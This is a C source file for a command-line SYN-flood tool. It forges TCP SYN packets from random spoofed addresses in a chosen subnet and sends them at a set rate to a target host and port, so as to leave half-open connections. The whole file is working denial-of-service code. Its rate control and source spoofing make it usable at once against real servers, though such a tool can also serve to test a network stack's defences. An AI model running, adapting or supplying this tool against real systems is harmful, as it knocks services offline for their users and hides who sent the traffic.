// SPDX-License-Identifier: GPL-2.0
/*
 * Sends SYNs from addresses that never answer, to leave half-open connections:
 * synflood DESTINATION PORT SOURCE/BITS COUNT RATE. IPv4; RATE is a second's SYNs.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t mss[4];
};

/* What the checksum also covers (RFC 9293 section 3.1). */
struct pseudo {
	uint32_t saddr, daddr;
	uint8_t zero, protocol;
	uint16_t length;
};

static uint32_t sum16(const void *data, size_t length, uint32_t sum)
{
	const uint8_t *p = data;

	for (; length > 1; p += 2, length -= 2)
		sum += p[0] << 8 | p[1];
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum);
}

static void make_syn(struct syn *syn, uint32_t from, uint32_t to, uint16_t port)
{
	struct pseudo pseudo = {
		.saddr = from, .daddr = to, .protocol = IPPROTO_TCP,
		.length = htons(sizeof(syn->tcp) + sizeof(syn->mss)),
	};

	memset(syn, 0, sizeof(*syn));
	syn->ip.version = 4;
	syn->ip.ihl = 5;
	syn->ip.ttl = 64;
	syn->ip.protocol = IPPROTO_TCP;
	syn->ip.tot_len = htons(sizeof(*syn));
	syn->ip.saddr = from;
	syn->ip.daddr = to;
	syn->tcp.source = htons(1024 + random() % 60000);
	syn->tcp.dest = htons(port);
	syn->tcp.seq = random();
	syn->tcp.doff = (sizeof(syn->tcp) + sizeof(syn->mss)) / 4;
	syn->tcp.syn = 1;
	syn->tcp.window = htons(64240);
	memcpy(syn->mss, "\2\4\5\264", 4);
	syn->tcp.check = fold(sum16(&syn->tcp, sizeof(syn->tcp) + sizeof(syn->mss),
				    sum16(&pseudo, sizeof(pseudo), 0)));
}

/* Sleep until the SYNs sent so far are not more than RATE a second. */
static void pace(const struct timespec *start, unsigned long sent, unsigned long rate)
{
	struct timespec due = *start;
	unsigned long long ns = due.tv_nsec + 1000000000ULL * sent / rate;

	due.tv_sec += ns / 1000000000ULL;
	due.tv_nsec = ns % 1000000000ULL;
	clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &due, NULL);
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	unsigned long sent, count, rate, bits;
	struct in_addr net;
	struct timespec start;
	char *slash;
	int fd;

	if (argc != 6 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		goto usage;
	slash = strchr(argv[3], '/');
	if (!slash)
		goto usage;
	*slash = 0;
	bits = strtoul(slash + 1, NULL, 10);
	count = strtoul(argv[4], NULL, 10);
	rate = strtoul(argv[5], NULL, 10);
	if (inet_pton(AF_INET, argv[3], &net) != 1 || bits < 1 || bits > 31 || !rate)
		goto usage;

	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("synflood: raw socket");
		return 1;
	}
	srandom(getpid());
	clock_gettime(CLOCK_MONOTONIC, &start);
	for (sent = 0; sent < count; sent++) {
		uint32_t host = random() & (0xffffffffU >> bits);
		struct syn syn;

		make_syn(&syn, htonl(ntohl(net.s_addr) | host), to.sin_addr.s_addr,
			 strtoul(argv[2], NULL, 10));
		sendto(fd, &syn, sizeof(syn), 0, (struct sockaddr *)&to, sizeof(to));
		if (sent % 16 == 0)
			pace(&start, sent, rate);
	}
	return 0;

usage:
	fprintf(stderr, "Usage: synflood DESTINATION PORT SOURCE/BITS COUNT RATE\n");
	return 2;
}
